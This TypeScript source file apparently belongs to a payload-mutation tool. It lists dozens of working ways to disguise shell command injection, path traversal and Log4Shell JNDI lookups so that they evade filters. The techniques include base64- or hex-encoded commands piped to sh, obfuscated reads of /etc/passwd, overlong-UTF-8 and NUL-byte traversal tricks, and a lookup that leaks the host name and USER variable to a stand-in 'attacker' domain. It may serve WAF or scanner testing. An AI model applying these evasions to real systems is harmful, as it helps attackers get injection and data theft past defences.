import type { Draw } from '../draw.ts';
import { randomCase, swap } from '../rewriting.ts';
import type { Rewrite } from './rewrite.ts';

/** Programs whose names are changed; exploits of other names are left. */
const COMMAND =
  /\b(?:cat|id|curl|wget|sleep|ping|whoami|uname|nslookup|printenv|head|ls|nc|bash|sh|python3|perl|dir|type|net|powershell)\b(?![=:/.-])/;
const command = (text: string, by: (name: string) => string): string | null => swap(text, COMMAND, by);
const PASSWD = /\/etc\/(?:passwd|shadow)/g;
const hex = (text: string): string => Array.from(text, (sign) => `\\x${sign.charCodeAt(0).toString(16)}`).join('');
const octal = (text: string): string => Array.from(text, (sign) => `\\${sign.charCodeAt(0).toString(8)}`).join('');
/** What stands after the first separator, as one command line. */
const line = (text: string): string | null => /^[;&|\n]+\s*([^;&|]+)$/.exec(text)?.[1] ?? null;
const wrapped = (text: string, by: (inner: string) => string): string | null => {
  const inner = line(text);
  return inner === null ? null : `;${by(inner)}`;
};

const SHELL: readonly Omit<Rewrite, 'classes'>[] = [
  { name: 'IFS for spaces', on: 'sh, bash', apply: (text) => swap(text, / /g, '${IFS}') },
  { name: 'IFS and an empty parameter', on: 'sh, bash', apply: (text) => swap(text, / /g, '$IFS$9') },
  { name: 'IFS cut', on: 'bash', apply: (text) => swap(text, / /g, '${IFS:0:1}') },
  { name: 'tabs for spaces', on: 'sh, bash', apply: (text) => swap(text, / /g, '\t') },
  { name: 'redirection for the space', on: 'sh, bash', apply: (text) => swap(text, /\b(cat|head|tac) (?=\/)/g, (_, name) => `${name}<`) },
  { name: 'braces', on: 'bash', apply: (text) => swap(text, /(?<=^;|^\||&)(\w+) ([^ ;|&<>]+)$/g, (_, name, rest) => `{${name},${rest}}`) },
  { name: 'quotes in the name', on: 'sh, bash', apply: (text) => command(text, (name) => `${name.slice(0, 1)}''${name.slice(1)}`) },
  {
    name: 'double quotes about letters',
    on: 'sh, bash',
    apply: (text) => command(text, (name) => Array.from(name, (sign) => `"${sign}"`).join('')),
  },
  { name: 'backslashes in the name', on: 'sh, bash', apply: (text) => command(text, (name) => `${name.slice(0, -1)}\\${name.slice(-1)}`) },
  { name: 'empty parameters in the name', on: 'bash', apply: (text) => command(text, (name) => `${name.slice(0, 1)}$@${name.slice(1)}`) },
  {
    name: 'unset variable in the name',
    on: 'sh, bash',
    apply: (text, draw) => command(text, (name) => `${name.slice(0, 1)}\${${draw.chars('lower', 4)}}${name.slice(1)}`),
  },
  { name: 'empty command in the name', on: 'sh, bash', apply: (text) => command(text, (name) => `${name.slice(0, 1)}$()${name.slice(1)}`) },
  {
    name: 'line continued in the name',
    on: 'sh, bash',
    apply: (text) => command(text, (name) => `${name.slice(0, 1)}\\\n${name.slice(1)}`),
  },
  { name: 'name by its path', on: 'sh, bash', apply: (text) => command(text, (name) => `/usr/bin/${name}`) },
  {
    name: 'name by a pattern',
    on: 'sh, bash',
    apply: (text) => swap(text, /\b(cat|curl|wget|sleep|ping)\b/, (name) => `/*/b?n/${name.slice(0, -1)}?`),
  },
  {
    name: 'name by brackets',
    on: 'sh, bash',
    apply: (text) => swap(text, /\b(cat|curl|wget|sleep|ping)\b/, (name) => `/bin/${name.slice(0, 1)}[${name[1]}]${name.slice(2)}`),
  },
  { name: 'name in hex', on: 'bash', apply: (text) => command(text, (name) => `$'${hex(name)}'`) },
  { name: 'name by printf', on: 'sh, bash', apply: (text) => command(text, (name) => `$(printf "${octal(name)}")`) },
  {
    name: 'name from two variables',
    on: 'sh, bash',
    apply: (text) => wrapped(text, (inner) => inner.replace(/^(\w)(\w+)/, 'a=$1;b=$2;$a$b')),
  },
  { name: 'name backwards', on: 'bash', apply: (text) => command(text, (name) => `$(rev<<<${Array.from(name).reverse().join('')})`) },
  { name: 'name in another case', on: 'bash', apply: (text) => command(text, (name) => `$(tr A-Z a-z<<<${name.toUpperCase()})`) },
  {
    name: 'name by case change',
    on: 'bash',
    apply: (text) => wrapped(text, (inner) => inner.replace(/^\w+/, (name) => `a=${name.toUpperCase()};\${a,,}`)),
  },
  { name: 'solidus from a variable', on: 'bash', apply: (text) => swap(text, /\//g, '${HOME:0:1}') },
  { name: 'solidus from a command', on: 'bash', apply: (text) => swap(text, /(?<= )\//, "$(echo . | tr '!-0' '\"-1')") },
  { name: 'file by a pattern', on: 'sh, bash', apply: (text) => swap(text, PASSWD, (name) => name.replace(/[aeow]/g, '?')) },
  { name: 'file by a star', on: 'sh, bash', apply: (text) => swap(text, PASSWD, '/e*/p*w?') },
  { name: 'file in quotes', on: 'sh, bash', apply: (text) => swap(text, PASSWD, '/e\'tc\'/pas"s"wd') },
  { name: 'file by a detour', on: 'sh, bash', apply: (text) => swap(text, PASSWD, '/var/.././///etc/./passwd') },
  {
    name: 'base64 to a shell',
    on: 'bash',
    apply: (text) => wrapped(text, (inner) => `echo ${Buffer.from(inner).toString('base64')}|base64 -d|sh`),
  },
  {
    name: 'base64 by a here text',
    on: 'bash',
    apply: (text) => wrapped(text, (inner) => `bash<<<$(base64 --decode<<<${Buffer.from(inner).toString('base64')})`),
  },
  {
    name: 'hex to a shell',
    on: 'sh with xxd',
    apply: (text) => wrapped(text, (inner) => `sh -c "$(echo ${Buffer.from(inner).toString('hex')}|xxd -r -p)"`),
  },
  { name: 'eval of hex', on: 'bash', apply: (text) => wrapped(text, (inner) => `eval $'${hex(inner)}'`) },
  { name: 'line end for the separator', on: 'sh, bash', apply: (text) => swap(text, /^[;|&]+/, '\n') },
  { name: 'two for one separator', on: 'sh, bash, cmd', apply: (text) => swap(text, /^[;|&]\s*/, '||') },
  { name: 'background', on: 'sh, bash', apply: (text) => (text.startsWith(';') ? `&${text.slice(1)}&` : null) },
  {
    name: 'substitution for the separator',
    on: 'sh, bash',
    apply: (text) => {
      const inner = line(text);
      return inner === null ? null : `$(${inner})`;
    },
  },
  {
    name: 'back quotes for the separator',
    on: 'sh, bash',
    apply: (text) => {
      const inner = line(text);
      return inner === null || inner.includes('`') ? null : `x\`${inner}\``;
    },
  },
  {
    name: 'process substitution',
    on: 'bash',
    apply: (text) => {
      const inner = line(text);
      return inner === null ? null : `<(${inner})`;
    },
  },
  { name: 'out of quotes', on: 'sh, bash', apply: (text) => (/^[;|&]/.test(text) ? `report.pdf"${text};"` : null) },
  { name: 'out of single quotes', on: 'sh, bash', apply: (text) => (/^[;|&]/.test(text) ? `x'${text} #` : null) },
  { name: 'after an honest name', on: 'sh, bash', apply: (text) => (/^[;|&$`]/.test(text) ? `statement-2026-03.pdf ${text}` : null) },
  {
    name: 'carets',
    on: 'cmd',
    apply: (text) => swap(text, /\b(whoami|dir|type|net|powershell|ping)\b/gi, (name) => Array.from(name).join('^')),
  },
  {
    name: 'quotes in the name',
    on: 'cmd',
    apply: (text) => swap(text, /\b(whoami|powershell|ping)\b/gi, (name) => `${name.slice(0, 2)}""${name.slice(2)}`),
  },
  {
    name: 'back quotes in the name',
    on: 'PowerShell',
    apply: (text) => swap(text, /\b(iex|Invoke-Expression|Get-Content)\b/gi, (name) => `${name.slice(0, 1)}\`${name.slice(1)}`),
  },
  {
    name: 'random case',
    on: 'cmd, PowerShell',
    apply: (text, draw) =>
      swap(text, /\b(whoami|dir|type|net user|powershell|iex|Invoke-Expression|Get-Content|certutil|mshta)\b/gi, (name) =>
        randomCase(name, draw),
      ),
  },
];

const dots = (text: string, by: string): string | null => swap(text, /\.\.(?=[/\\])/g, by);
const slashes = (text: string, by: string): string | null => swap(text, /\//g, by);
const climbs = (text: string, by: string | ((match: string) => string)): string | null => swap(text, /\.\.\//g, by);

const FILES: readonly Omit<Rewrite, 'classes'>[] = [
  { name: 'slashes escaped', on: 'programs that decode again, Tomcat, Go', apply: (text) => slashes(text, '%2f') },
  { name: 'dots escaped', on: 'programs that decode again', apply: (text) => dots(text, '%2e%2e') },
  { name: 'one dot escaped', on: 'programs that decode again', apply: (text) => dots(text, '.%2E') },
  { name: 'slashes escaped twice', on: 'programs that decode twice more', apply: (text) => slashes(text, '%252f') },
  { name: 'overlong slashes', on: 'old IIS, Tomcat, GlassFish', apply: (text) => slashes(text, '%c0%af') },
  { name: 'overlong dots', on: 'old IIS, GlassFish', apply: (text) => dots(text, '%c0%ae%c0%ae') },
  { name: 'three-byte overlong slashes', on: 'old IIS', apply: (text) => slashes(text, '%e0%80%af') },
  { name: '%u slashes', on: 'IIS, WebLogic', apply: (text) => slashes(text, '%u2215') },
  { name: 'full-width slashes', on: 'programs with best-fit code pages or NFKC', apply: (text) => slashes(text, '\uff0f') },
  { name: 'two-dot leader', on: 'programs with NFKC', apply: (text) => dots(text, '\u2025') },
  { name: 'doubled', on: 'programs that remove ../ once', apply: (text) => climbs(text, '....//') },
  { name: 'doubled inside', on: 'programs that remove ../ once', apply: (text) => climbs(text, '..././') },
  { name: 'backslashes', on: 'Windows', apply: (text) => slashes(text, '\\') },
  { name: 'either slash', on: 'Windows', apply: (text, draw) => swap(text, /\//g, () => draw.of(['/', '\\'])) },
  { name: 'more slashes', on: 'all', apply: (text) => climbs(text, '..///') },
  { name: 'single dots between', on: 'all', apply: (text) => climbs(text, '.././') },
  { name: 'with semicolons', on: 'Tomcat, Jetty behind a proxy', apply: (text) => climbs(text, '..;/') },
  { name: 'with matrix parameters', on: 'Tomcat, Jetty behind a proxy', apply: (text) => climbs(text, '..;a=b/') },
  {
    name: 'NUL and an extension after',
    on: 'PHP before 5.3, Perl, Java before 7u40',
    apply: (text) => (/\.\.[/\\]/.test(text) ? `${text}\x00.pdf` : null),
  },
  { name: 'escaped NUL after', on: 'programs that decode again', apply: (text) => (/\.\.[/\\]/.test(text) ? `${text}%00.html` : null) },
  { name: 'an honest folder before', on: 'all', apply: (text) => (text.startsWith('..') ? `statements/2026/03/../../../${text}` : null) },
  { name: 'many climbs', on: 'all', apply: (text) => (text.startsWith('../') ? `${'../'.repeat(60)}${text}` : null) },
  {
    name: 'dots and slashes to the longest path',
    on: 'PHP before 5.3',
    apply: (text) => (/passwd$/.test(text) ? `${text}${'/.'.repeat(2_048)}` : null),
  },
  { name: 'query after', on: 'programs that cut it', apply: (text) => (/\.\.[/\\]/.test(text) ? `${text}?a.pdf` : null) },
  { name: 'NUL in the dots', on: 'programs that drop NUL', apply: (text) => dots(text, '.\x00.') },
  { name: 'line end before', on: 'patterns that look at one line', apply: (text) => `a\n${text}` },
];

const jndi = (text: string, by: (sign: string, draw: Draw) => string, draw: Draw): string | null =>
  swap(text, /(?<=\$\{)jndi:(?:ldap|rmi|dns|ldaps)/g, (match) => Array.from(match, (sign) => by(sign, draw)).join(''));

const LOOKUPS: readonly Omit<Rewrite, 'classes'>[] = [
  {
    name: 'each letter lower',
    on: 'Log4j',
    apply: (text, draw) => jndi(text, (sign) => (sign === ':' ? sign : `\${lower:${sign}}`), draw),
  },
  { name: 'each letter a default', on: 'Log4j', apply: (text, draw) => jndi(text, (sign) => `\${::-${sign}}`, draw) },
  {
    name: 'each letter a default of a name',
    on: 'Log4j',
    apply: (text, draw) => jndi(text, (sign) => `\${env:${draw.chars('upper', 5)}:-${sign}}`, draw),
  },
  {
    name: 'each letter a default of a default',
    on: 'Log4j',
    apply: (text, draw) => jndi(text, (sign) => `\${${draw.chars('lower', 3)}:\${::-x}:-${sign}}`, draw),
  },
  { name: 'the colon a default', on: 'Log4j', apply: (text, draw) => jndi(text, (sign) => (sign === ':' ? '${sys:x:-:}' : sign), draw) },
  {
    name: 'lower of upper',
    on: 'Log4j',
    apply: (text, draw) => jndi(text, (sign) => (/[jn]/.test(sign) ? `\${lower:\${upper:${sign}}}` : sign), draw),
  },
  { name: 'a date', on: 'Log4j', apply: (text, draw) => jndi(text, (sign) => (sign === 'j' ? "${date:'j'}" : sign), draw) },
  {
    name: 'random case of the lookup',
    on: 'Log4j with lower',
    apply: (text, draw) => swap(text, /jndi|lower|upper/g, (match) => randomCase(match, draw)),
  },
  { name: 'the address a lookup', on: 'Log4j', apply: (text) => swap(text, /:\/\/attacker/g, '://${hostName}.${env:USER:-x}.attacker') },
  { name: 'no closing brace', on: 'Log4j in a line with braces', apply: (text) => swap(text, /\}$/, '') },
  {
    name: 'braces escaped',
    on: 'programs that decode again',
    apply: (text) => swap(text, /[${}]/g, (match) => `%${match.charCodeAt(0).toString(16)}`),
  },
];

export const SYSTEM_REWRITES: readonly Rewrite[] = [
  ...SHELL.map((one) => ({ ...one, classes: ['cmdi'] })),
  ...FILES.map((one) => ({ ...one, classes: ['path-traversal'] })),
  ...LOOKUPS.map((one) => ({ ...one, classes: ['log4shell'] })),
];
